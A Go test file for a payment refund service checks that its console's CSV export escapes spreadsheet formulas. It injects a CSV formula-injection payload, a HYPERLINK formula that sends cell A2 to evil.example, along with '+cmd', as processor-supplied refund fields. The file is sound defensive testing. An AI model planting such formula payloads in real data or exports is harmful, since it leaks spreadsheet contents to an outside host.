package console_test

import (
	"context"
	"encoding/csv"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/refundd/refundd/refund"
	"github.com/refundd/refundd/server"
	"github.com/refundd/refundd/store/sqlite/sqlitetest"
)

// TestRefundCSV_NoFormulas: the processor chooses a refund's ARN and RRN,
// and a spreadsheet runs a cell that starts with =, +, - or @ as a
// formula (=HYPERLINK sends whoever clicks it elsewhere with the cells it
// names). The console's refunds.csv, opened in a spreadsheet by an
// operator, must hold such text as text.
func TestRefundCSV_NoFormulas(t *testing.T) {
	t.Parallel()
	const arn, rrn = `=HYPERLINK("https://evil.example/?d="&A2,"ARN")`, "+cmd"
	e := startOnAcquirer(t, map[string]any{"status": "approved", "response_code": "00", "message": "ok", "arn": arn, "rrn": rrn})
	var o struct{ ID string }
	e.api("POST", "/v1/orders", e.key, jsonBody(map[string]any{"reference": "-ORD-1", "currency": "SAR", "amount": 5000,
		"payment_method": "card", "source": map[string]any{"scheme": "visa", "first_digits": "400000", "last_digits": "0002", "month": 12, "year": 2027}}),
		http.StatusCreated, &o)
	var rf struct{ ID, Status string }
	e.api("POST", "/v1/refunds", e.key, jsonBody(map[string]any{"order_id": o.ID, "amount": 100, "merchant_reference": "-R1"}), http.StatusCreated, &rf)
	if rf.Status != string(refund.StatusSucceeded) {
		t.Fatalf("refund: want succeeded, got %s", rf.Status)
	}
	p := e.mustSignIn(e.key).get("/console/refunds.csv")
	rows, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
	if p.status != http.StatusOK || err != nil || len(rows) != 2 {
		t.Fatalf("csv: %d %v\n%s", p.status, err, p.body)
	}
	got := map[string]string{}
	for i, name := range rows[0] {
		got[name] = rows[1][i]
		if c := rows[1][i]; c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("%s %q would be a formula", name, c)
		}
	}
	// The text itself is all there, after the quote that makes it text.
	for name, want := range map[string]string{"arn": arn, "rrn": rrn, "order_reference": "-ORD-1", "merchant_reference": "-R1", "refund_id": rf.ID} {
		if g := got[name]; strings.TrimPrefix(g, "'") != want {
			t.Errorf("%s: want %q, got %q", name, want, g)
		}
	}
}

// startOnAcquirer runs a real server whose processor is an acquirer
// service answering every call with answer (and executed_at now), with a
// merchant and no orders.
func startOnAcquirer(t *testing.T, answer map[string]any) *env {
	t.Helper()
	return startOnProcessor(t, acquirerAnswer(answer))
}

// acquirerAnswer answers every call of an acquirer service with answer
// (and executed_at now).
func acquirerAnswer(answer map[string]any) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		a := map[string]any{"executed_at": time.Now().UTC()}
		for k, v := range answer {
			a[k] = v
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(jsonBody(a)))
	}
}

// startOnProcessor runs a real server whose processor is the acquirer
// service acqHandler serves, with a merchant and no orders.
func startOnProcessor(t *testing.T, acqHandler http.Handler) *env {
	t.Helper()
	acq := httptest.NewServer(acqHandler)
	t.Cleanup(acq.Close)
	ctx := context.Background()
	srv, err := server.Open(ctx, server.Config{Addr: "127.0.0.1:0", DB: sqlitetest.URL(t), WorkerInterval: -1,
		Processor: acq.URL, ProcessorTimeout: 5 * time.Second, Log: slog.New(slog.NewJSONHandler(scanned, nil))})
	if err != nil {
		t.Fatal(err)
	}
	if err := srv.Start(ctx); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Stop(context.Background()) })
	e := &env{t: t, srv: srv, orders: map[string]string{}}
	if e.mer, e.key, err = srv.Service.CreateMerchant(ctx, refund.MerchantInput{Name: "Souq"}); err != nil {
		t.Fatal(err)
	}
	return e
}
